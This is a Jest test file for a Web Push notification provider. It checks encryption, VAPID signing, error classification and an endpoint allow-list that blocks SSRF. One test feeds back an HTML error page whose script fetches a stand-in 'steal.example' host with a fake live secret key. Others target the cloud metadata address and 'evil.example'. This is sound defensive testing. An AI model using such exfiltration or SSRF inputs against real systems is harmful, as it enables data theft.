import https from 'node:https';
import net from 'node:net';
import { generateRequestDetails, getVapidHeaders, type RequestDetails } from 'web-push';
import { ProviderError, type PushProvider } from '../activities/providers/push-provider';
import { withReceiptTokens } from '../activities/providers/receipt-tokens';
import { receiptTokenProblem } from '../lib/receipt-tokens';
import { parseSigningKeys } from '../lib/signing-keys';
import {
  createWebPushProvider,
  generateVapidKeys,
  toWebPushPayload,
  WEB_PUSH_MAX_PLAINTEXT_BYTES,
  WEB_PUSH_TTL_SECONDS,
  webPushTopic,
  type WebPushTarget,
} from '../activities/providers/web-push';
import type { PushMessage, PushTarget } from '../domain';
import type { WebPushConfig } from '../lib/config';
import { DEFAULT_PUSH_ENDPOINT_POLICY, endpointRefusal, hostAllowed, isPrivateAddress, type PushEndpointPolicy } from '../lib/push-endpoints';
import { logger } from './support/logger';
import { startFakePushService, type FakePushService, type FakeSubscription } from './fakes/push-service';

const SUBJECT = 'mailto:push-ops@herald.example';
/** The test-only opt-out (HERALD_WEBPUSH_ALLOWED_HOSTS=127.0.0.1, HERALD_WEBPUSH_ALLOW_PRIVATE=true): the fake listens on loopback. */
const FAKE_ENDPOINTS: PushEndpointPolicy = { allowedHosts: ['127.0.0.1'], allowPrivate: true };

const target = (sub: Pick<FakeSubscription, 'endpoint' | 'keys'>, deviceId = 'dev-web-1'): WebPushTarget => ({
  deviceId,
  platform: 'web',
  token: sub.endpoint,
  app: null,
  keys: sub.keys,
});

const message = (overrides: Partial<PushMessage> = {}): PushMessage => ({
  notificationId: 'ntf-1',
  orderId: 'order-42',
  title: 'Your order shipped',
  body: 'Order 42 is on its way',
  priority: 'routine',
  collapseKey: 'order-42',
  data: { orderId: 'order-42', status: 'shipped', url: '/orders/42' },
  ...overrides,
});

/** Runs `fn`, expecting a ProviderError. */
async function providerError(fn: () => Promise<unknown>): Promise<ProviderError> {
  try {
    await fn();
  } catch (err) {
    expect(err).toBeInstanceOf(ProviderError);
    return err as ProviderError;
  }
  throw new Error('expected the send to fail');
}

describe('Web Push provider over the wire (fake RFC 8030 push service)', () => {
  let push: FakePushService;
  let vapid: { publicKey: string; privateKey: string };
  let provider: PushProvider;
  const extraProviders: PushProvider[] = [];
  const extraServers: net.Server[] = [];

  const newProvider = (overrides: Partial<WebPushConfig> = {}) => {
    const p = createWebPushProvider({ ...vapid, subject: SUBJECT, caFile: push.caFile, endpoints: FAKE_ENDPOINTS, ...overrides }, logger);
    extraProviders.push(p);
    return p;
  };

  beforeAll(async () => {
    push = await startFakePushService();
    vapid = generateVapidKeys();
    provider = createWebPushProvider({ ...vapid, subject: SUBJECT, caFile: push.caFile, endpoints: FAKE_ENDPOINTS }, logger);
  });

  afterEach(async () => {
    await Promise.all(extraProviders.splice(0).map((p) => p.close()));
    await Promise.all(extraServers.splice(0).map((s) => new Promise<void>((resolve) => s.close(() => resolve()))));
    push.reset();
  });

  afterAll(async () => {
    await provider?.close();
    await push?.close();
  });

  it('is the live webpush provider', () => {
    expect(provider.name).toBe('webpush');
    expect(provider.mode).toBe('live');
  });

  it('delivers an aes128gcm payload the subscription decrypts to title, body, data and tag', async () => {
    const sub = push.createSubscription({ applicationServerKey: vapid.publicKey });
    const seen: unknown[] = [];
    const stop = push.onMessage((m) => seen.push(m.payload));

    const receipt = await provider.send(target(sub), message(), 'ntf-1:dev-web-1');
    stop();

    expect(push.messages).toHaveLength(1);
    const [received] = push.messages;
    expect(receipt).toEqual({ provider: 'webpush', providerMessageId: received!.location });
    expect(receipt.providerMessageId).toMatch(new RegExp(`^${push.url}/message/`));
    expect(received!.contentEncoding).toBe('aes128gcm');
    expect(received!.payload).toEqual({
      title: 'Your order shipped',
      body: 'Order 42 is on its way',
      data: { orderId: 'order-42', status: 'shipped', url: '/orders/42', notificationId: 'ntf-1' },
      tag: 'order-42',
    });
    expect(seen).toEqual([received!.payload]);
    expect(received!.receivedAt).toBeGreaterThan(Date.now() - 10_000);
    // VAPID: signed by our key, audience is the push service origin, subject is ours.
    expect(received!.vapid).toMatchObject({ aud: push.url, sub: SUBJECT, publicKey: vapid.publicKey });
    expect(received!.vapid!.exp).toBeGreaterThan(Date.now() / 1000);
  });

  it("as the worker wraps it, the decrypted payload's data carries the receipt token the service worker echoes", async () => {
    const keys = parseSigningKeys('k1:web-push-provider-test-secret');
    const stamped = withReceiptTokens({ ios: provider, android: provider, web: provider }, keys).web;
    const sub = push.createSubscription({ applicationServerKey: vapid.publicKey });
    await stamped.send(target(sub), message(), 'ntf-1:dev-web-1');
    const data = (push.messages[0]!.payload as { data: Record<string, unknown> }).data;
    expect(data).toMatchObject({ notificationId: 'ntf-1', receiptToken: expect.stringMatching(/^k1\./) });
    expect(receiptTokenProblem(keys, 'ntf-1', data.receiptToken)).toBeNull();
  });

  it('a rich push decrypts to what showNotification takes: image, actions, data.url and each button link', async () => {
    const sub = push.createSubscription({ applicationServerKey: vapid.publicKey });
    const rich = {
      imageUrl: 'https://cdn.example/parcel.png',
      deepLink: 'https://shop.example/orders/42',
      actions: [{ id: 'track', title: 'Track parcel', deepLink: 'https://track.example/1Z999' }, { id: 'help', title: 'Get help' }],
      category: 'ORDER_SHIPPED',
    };
    await provider.send(target(sub), message({ rich }), 'ntf-1:dev-web-1');

    expect(push.messages[0]!.payload).toEqual({
      title: 'Your order shipped',
      body: 'Order 42 is on its way',
      // The template's link replaces a data.url of the event's.
      data: { orderId: 'order-42', status: 'shipped', url: 'https://shop.example/orders/42', notificationId: 'ntf-1', actionUrls: { track: 'https://track.example/1Z999' } },
      tag: 'order-42',
      image: 'https://cdn.example/parcel.png',
      actions: [
        { action: 'track', title: 'Track parcel' },
        { action: 'help', title: 'Get help' },
      ],
    });
  });

  it('sends Urgency high and the long TTL for critical pushes, normal and the short TTL for routine ones', async () => {
    const sub = push.createSubscription();

    await provider.send(target(sub), message({ priority: 'critical', collapseKey: 'order-1' }), 'k-critical');
    await provider.send(target(sub), message({ priority: 'routine', collapseKey: 'order-2' }), 'k-routine');

    expect(push.messages.map((m) => [m.urgency, m.ttl])).toEqual([
      ['high', WEB_PUSH_TTL_SECONDS.critical],
      ['normal', WEB_PUSH_TTL_SECONDS.routine],
    ]);
  });

  it('sets Topic from the collapse key so a newer message replaces an undelivered older one', async () => {
    const sub = push.createSubscription();
    const longKey = 'order-7f7c1a52-0d5e-4c3b-9b7e-2f1de0c0a9b1';

    await provider.send(target(sub), message({ collapseKey: 'order-42', body: 'packed' }), 'k1');
    await provider.send(target(sub), message({ collapseKey: longKey, body: 'other order' }), 'k2');
    await provider.send(target(sub), message({ collapseKey: 'order-42', body: 'shipped' }), 'k3');

    const topics = push.messages.map((m) => m.topic);
    expect(topics).toEqual(['order-42', webPushTopic(longKey), 'order-42']);
    expect(topics[1]).toMatch(/^[A-Za-z0-9_-]{32}$/);
    expect(webPushTopic('order-7f7c1a52-0d5e-4c3b-9b7e-2f1de0c0a9b2')).not.toBe(topics[1]);
    const pending = push.pending(sub.endpoint).map((m) => (m.payload as { body: string }).body);
    expect(pending).toEqual(['other order', 'shipped']);
  });

  it.each([
    ['410 after the user unsubscribed', 410, (sub: FakeSubscription) => push.unsubscribe(sub.endpoint)],
    ['scripted 410', 410, (sub: FakeSubscription) => push.respondNext(410, { endpoint: sub.endpoint })],
    ['scripted 404', 404, (sub: FakeSubscription) => push.respondNext(404, { endpoint: sub.endpoint })],
  ])('classifies %s as invalid_token', async (_name, status, arrange) => {
    const sub = push.createSubscription();
    arrange(sub);

    const err = await providerError(() => provider.send(target(sub), message(), 'k'));

    expect(err).toMatchObject({ provider: 'webpush', kind: 'invalid_token', code: String(status) });
    expect(push.requests.map((r) => r.status)).toEqual([status]);
  });

  it('classifies an unknown subscription (404) as invalid_token', async () => {
    const sub = push.createSubscription();
    const err = await providerError(() => provider.send(target({ ...sub, endpoint: `${push.url}/push/nobody` }), message(), 'k'));
    expect(err).toMatchObject({ kind: 'invalid_token', code: '404' });
  });

  it('classifies 413 as permanent, and refuses an oversized payload before the network', async () => {
    const sub = push.createSubscription();
    push.respondNext(413);
    expect(await providerError(() => provider.send(target(sub), message(), 'k'))).toMatchObject({ kind: 'permanent', code: '413' });

    const huge = await providerError(() => provider.send(target(sub), message({ body: 'x'.repeat(5000) }), 'k'));
    expect(huge).toMatchObject({ kind: 'permanent', code: 'PAYLOAD_TOO_LARGE' });
    expect(push.requests).toHaveLength(1);
  });

  it('takes the largest payload that fits the push services\' 4096-byte body limit', async () => {
    const sub = push.createSubscription();
    const base = Buffer.byteLength(JSON.stringify(toWebPushPayload(message({ body: '' }))));
    const fits = message({ body: 'x'.repeat(WEB_PUSH_MAX_PLAINTEXT_BYTES - base) });

    await provider.send(target(sub), fits, 'k');
    const tooBig = await providerError(() => provider.send(target(sub), { ...fits, body: `${fits.body}x` }, 'k'));

    expect(push.messages.map((m) => m.bodyBytes)).toEqual([4096]);
    expect(tooBig).toMatchObject({ kind: 'permanent', code: 'PAYLOAD_TOO_LARGE' });
  });

  it('classifies 429 as transient with the Retry-After delay', async () => {
    const sub = push.createSubscription();
    push.respondNext(429, { retryAfter: 30 });
    const err = await providerError(() => provider.send(target(sub), message(), 'k'));
    expect(err).toMatchObject({ kind: 'transient', code: '429', retryAfterMs: 30_000 });

    push.respondNext(429, { retryAfter: new Date(Date.now() + 120_000).toUTCString() });
    const dated = await providerError(() => provider.send(target(sub), message(), 'k'));
    expect(dated.retryAfterMs).toBeGreaterThan(100_000);
    expect(dated.retryAfterMs).toBeLessThanOrEqual(120_000);
  });

  it.each([500, 503])('classifies %i as transient', async (status) => {
    const sub = push.createSubscription();
    push.respondNext(status);
    const err = await providerError(() => provider.send(target(sub), message(), 'k'));
    expect(err).toMatchObject({ kind: 'transient', code: String(status), retryAfterMs: undefined });
  });

  it('is rejected 403 (permanent) when signing with a key pair other than the one the browser subscribed with', async () => {
    const sub = push.createSubscription({ applicationServerKey: vapid.publicKey });
    const other = newProvider(generateVapidKeys());

    const err = await providerError(() => other.send(target(sub), message(), 'k'));

    expect(err).toMatchObject({ kind: 'permanent', code: '403' });
    expect(push.requests).toHaveLength(1);
    expect(push.requests[0]!.error).toMatch(/does not match/);
    // The right key still gets through.
    await expect(provider.send(target(sub), message(), 'k')).resolves.toMatchObject({ provider: 'webpush' });
  });

  it('refuses a non-https endpoint before the network', async () => {
    const sub = push.createSubscription();
    const plain = sub.endpoint.replace(/^https:/, 'http:');

    const err = await providerError(() => provider.send(target({ ...sub, endpoint: plain }), message(), 'k'));
    const garbage = await providerError(() => provider.send(target({ ...sub, endpoint: 'not a url' }), message(), 'k'));

    expect(err).toMatchObject({ kind: 'invalid_token', code: 'INVALID_ENDPOINT' });
    expect(garbage).toMatchObject({ kind: 'invalid_token', code: 'INVALID_ENDPOINT' });
    expect(push.requests).toHaveLength(0);
  });

  it('needs the subscription keys: missing is permanent, malformed is invalid_token', async () => {
    const sub = push.createSubscription();
    const bare: PushTarget = { deviceId: 'dev-web-1', platform: 'web', token: sub.endpoint, app: null };

    const missing = await providerError(() => provider.send(bare, message(), 'k'));
    const malformed = await providerError(() => provider.send(target({ ...sub, keys: { p256dh: 'AAAA', auth: sub.keys.auth } }), message(), 'k'));

    expect(missing).toMatchObject({ kind: 'permanent', code: 'MISSING_KEYS' });
    expect(malformed).toMatchObject({ kind: 'invalid_token', code: 'INVALID_KEYS' });
    expect(push.requests).toHaveLength(0);
  });

  it('treats refused connections, timeouts and an untrusted certificate as transient', async () => {
    const sub = push.createSubscription();

    const closed = net.createServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const closedPort = (closed.address() as net.AddressInfo).port;
    await new Promise<void>((resolve) => closed.close(() => resolve()));
    const refused = await providerError(() => provider.send(target({ ...sub, endpoint: `https://127.0.0.1:${closedPort}/push/x` }), message(), 'k'));
    expect(refused).toMatchObject({ kind: 'transient', code: 'ECONNREFUSED' });

    // Accepts TCP, never speaks TLS.
    const silent = net.createServer((socket) => {
      socket.on('error', () => undefined);
      socket.resume(); // Read, so the client's close ends this side too and server.close() can finish.
    });
    extraServers.push(silent);
    await new Promise<void>((resolve) => silent.listen(0, '127.0.0.1', resolve));
    const silentPort = (silent.address() as net.AddressInfo).port;
    const quick = newProvider({ timeoutMs: 300 });
    const started = Date.now();
    const timedOut = await providerError(() => quick.send(target({ ...sub, endpoint: `https://127.0.0.1:${silentPort}/push/x` }), message(), 'k'));
    expect(timedOut).toMatchObject({ kind: 'transient', code: 'timeout' });
    expect(Date.now() - started).toBeLessThan(5_000);

    const untrusting = newProvider({ caFile: undefined });
    const tlsError = await providerError(() => untrusting.send(target(sub), message(), 'k'));
    expect(tlsError.kind).toBe('transient');
    expect(push.requests).toHaveLength(0);
  });

  it('has a fake that rejects what a push service would: wrong audience, foreign encryption keys, no TTL', async () => {
    const sub = push.createSubscription();
    const other = push.createSubscription();
    const vapidDetails = { ...vapid, subject: SUBJECT };
    const post = (details: RequestDetails) =>
      new Promise<number>((resolve, reject) => {
        const req = https.request(details.endpoint, { method: 'POST', headers: details.headers, ca: push.ca }, (res) => {
          res.resume();
          res.on('end', () => resolve(res.statusCode ?? 0));
        });
        req.on('error', reject);
        req.end(details.body ?? undefined);
      });
    const ok = generateRequestDetails(sub, 'hello', { vapidDetails, contentEncoding: 'aes128gcm' });
    const wrongAudience = {
      ...ok,
      headers: { ...ok.headers, ...getVapidHeaders('https://push.example', SUBJECT, vapid.publicKey, vapid.privateKey, 'aes128gcm') },
    };
    const foreignKeys = generateRequestDetails({ ...sub, keys: other.keys }, 'hello', { vapidDetails, contentEncoding: 'aes128gcm' });
    const { TTL: _ttl, ...noTtl } = ok.headers;

    expect(await post(wrongAudience)).toBe(401);
    expect(await post(foreignKeys)).toBe(400);
    expect(await post({ ...ok, headers: noTtl })).toBe(400);
    expect(await post(ok)).toBe(201);
    expect(push.requests.map((r) => r.error)).toEqual([
      expect.stringMatching(/aud/),
      expect.stringMatching(/does not decrypt/),
      expect.stringMatching(/TTL/),
      undefined,
    ]);
    expect(push.messages[0]!.plaintext).toBe('hello');
  });

  it('by default contacts only the known push services: a private address or another host is refused before the network', async () => {
    const sub = push.createSubscription();
    const strict = newProvider({ endpoints: undefined });
    const port = new URL(push.url).port;
    const refusal = (endpoint: string, p: PushProvider = strict) => providerError(() => p.send(target({ ...sub, endpoint }), message(), 'k'));

    for (const endpoint of [sub.endpoint, `https://[::ffff:127.0.0.1]:${port}/push/${sub.id}`, `https://[::1]:${port}/push/${sub.id}`, 'https://169.254.169.254/latest/meta-data/']) {
      expect(await refusal(endpoint)).toMatchObject({ kind: 'invalid_token', code: 'ENDPOINT_PRIVATE_ADDRESS' });
    }
    expect(await refusal('https://evil.example/push/x')).toMatchObject({ kind: 'invalid_token', code: 'ENDPOINT_NOT_ALLOWED', message: 'web push endpoint evil.example is not an allowed push service' });
    // Allowed by name is not enough: the address is private, and only the opt-out takes that.
    const allowedOnly = newProvider({ endpoints: { allowedHosts: ['127.0.0.1'], allowPrivate: false } });
    expect(await refusal(sub.endpoint, allowedOnly)).toMatchObject({ code: 'ENDPOINT_PRIVATE_ADDRESS' });
    expect(push.requests).toHaveLength(0);
  });

  it('checks every DNS answer at connect time: an allowed name that resolves to loopback never reaches the push service', async () => {
    const sub = push.createSubscription();
    const viaName = `https://localhost:${new URL(push.url).port}/push/${sub.id}`;
    const strict = newProvider({ endpoints: { allowedHosts: ['localhost'], allowPrivate: false } });

    const err = await providerError(() => strict.send(target({ ...sub, endpoint: viaName }), message(), 'k'));
    expect(err).toMatchObject({ kind: 'invalid_token', code: 'ENDPOINT_PRIVATE_ADDRESS' });
    expect(err.message).toMatch(/^web push endpoint localhost resolves to a private address \((127\.0\.0\.1|::1)\)$/);
    expect(push.requests).toHaveLength(0);

    // The same endpoint with the opt-out does connect (the fake then refuses the VAPID audience): the lookup was the refusal.
    const optedOut = newProvider({ endpoints: { allowedHosts: ['localhost'], allowPrivate: true } });
    expect(await providerError(() => optedOut.send(target({ ...sub, endpoint: viaName }), message(), 'k'))).toMatchObject({ code: '401' });
    expect(push.requests).toHaveLength(1);
  });

  it('never follows a redirect: a 3xx is a permanent failure and its Location is not contacted', async () => {
    const sub = push.createSubscription();
    let connections = 0;
    const elsewhere = net.createServer((socket) => {
      connections++;
      socket.destroy();
    });
    extraServers.push(elsewhere);
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    const location = `https://127.0.0.1:${(elsewhere.address() as net.AddressInfo).port}/push/${sub.id}`;

    for (const status of [301, 307, 308]) {
      push.respondNext(status, { headers: { location } });
      expect(await providerError(() => provider.send(target(sub), message(), 'k'))).toMatchObject({ kind: 'permanent', code: String(status) });
    }
    expect(push.requests.map((r) => r.status)).toEqual([301, 307, 308]);
    expect(connections).toBe(0);
  });

  it("keeps the status and the service's documented reason of an error, never its body", async () => {
    const sub = push.createSubscription();
    const secret = 'sk_live_4eC39HqLyjWDarjtT1zdp7dc';
    const page = `<html><head><script>fetch("https://steal.example/?k=${secret}")</script></head><body>${'<p>Authorization: Bearer ' + secret + '</p>\u0000'.repeat(5_000)}</body></html>`;

    push.respondNext(400, { body: page, headers: { 'content-type': 'text/html' } });
    const html = await providerError(() => provider.send(target(sub), message(), 'k'));
    push.respondNext(410, { body: JSON.stringify({ reason: 'Unregistered', detail: secret }) });
    const apple = await providerError(() => provider.send(target(sub), message(), 'k'));
    push.respondNext(404, { body: JSON.stringify({ code: 404, errno: 102, error: 'Not Found', message: `token ${secret} unknown` }) });
    const mozilla = await providerError(() => provider.send(target(sub), message(), 'k'));
    push.respondNext(400, { body: JSON.stringify({ reason: `<script>${secret}</script>` }) });
    const notAReason = await providerError(() => provider.send(target(sub), message(), 'k'));

    expect([html, apple, mozilla, notAReason].map((e) => [e.code, e.message])).toEqual([
      ['400', 'push service answered 400'],
      ['410', 'push service answered 410 (Unregistered)'],
      ['404', 'push service answered 404 (errno 102)'],
      ['400', 'push service answered 400'],
    ]);
  });

  it('refuses a VAPID config whose keys are not one pair, or whose subject is not mailto:/https:', () => {
    const a = generateVapidKeys();
    const b = generateVapidKeys();
    expect(() => createWebPushProvider({ publicKey: a.publicKey, privateKey: b.privateKey, subject: SUBJECT }, logger)).toThrow(
      /not the public key/,
    );
    expect(() => createWebPushProvider({ ...a, subject: 'ops@herald.example' }, logger)).toThrow(/VAPID config is invalid/);
  });
});

describe('Web Push endpoint policy (lib/push-endpoints.ts)', () => {
  it.each([
    '127.0.0.1', '127.255.0.9', '10.0.0.1', '172.16.5.4', '172.31.255.255', '192.168.1.1', '169.254.169.254', '100.64.0.1', '100.127.255.254',
    '0.0.0.0', '224.0.0.251', '255.255.255.255', '::', '::1', 'fc00::1', 'fd12:3456::1', 'fe80::1', 'ff02::1',
    '::ffff:127.0.0.1', '::ffff:169.254.169.254', '::ffff:a9fe:a9fe', '::ffff:10.1.2.3', '64:ff9b::7f00:1', '::127.0.0.1',
  ])('%s is private', (address) => {
    expect(isPrivateAddress(address)).toBe(true);
  });

  it.each(['142.250.185.74', '8.8.8.8', '100.128.0.1', '172.32.0.1', '2a00:1450:4001:82b::200a', '::ffff:8.8.8.8', 'not-an-ip'])('%s is not', (address) => {
    expect(isPrivateAddress(address)).toBe(false);
  });

  it('matches exact hosts and *. suffixes (a suffix pattern does not take its bare domain)', () => {
    const hosts = DEFAULT_PUSH_ENDPOINT_POLICY.allowedHosts;
    expect(['fcm.googleapis.com', 'updates.push.services.mozilla.com', 'web.push.apple.com', 'wns2-db5p.notify.windows.com', 'a.b.push.services.mozilla.com'].filter((h) => !hostAllowed(h, hosts))).toEqual([]);
    expect(['push.apple.com', 'evil.fcm.googleapis.com', 'fcm.googleapis.com.evil.example', 'evilpush.apple.com', 'notify.windows.com'].filter((h) => hostAllowed(h, hosts))).toEqual([]);
  });

  it('says why an endpoint is refused', () => {
    const policy = DEFAULT_PUSH_ENDPOINT_POLICY;
    expect(endpointRefusal('https://fcm.googleapis.com/fcm/send/abc', policy)).toBeUndefined();
    expect(endpointRefusal('https://FCM.googleapis.com./fcm/send/abc', policy)).toBeUndefined();
    expect(endpointRefusal('http://fcm.googleapis.com/fcm/send/abc', policy)).toBe('notHttps');
    expect(endpointRefusal('https://evil.example/x', policy)).toBe('notAllowed');
    expect(endpointRefusal('https://10.0.0.1/x', policy)).toBe('privateAddress');
    expect(endpointRefusal('https://2130706433/x', policy)).toBe('privateAddress');
    expect(endpointRefusal('https://[::1]/x', policy)).toBe('privateAddress');
    expect(endpointRefusal('https://127.0.0.1/x', { allowedHosts: ['127.0.0.1'], allowPrivate: true })).toBeUndefined();
  });
});
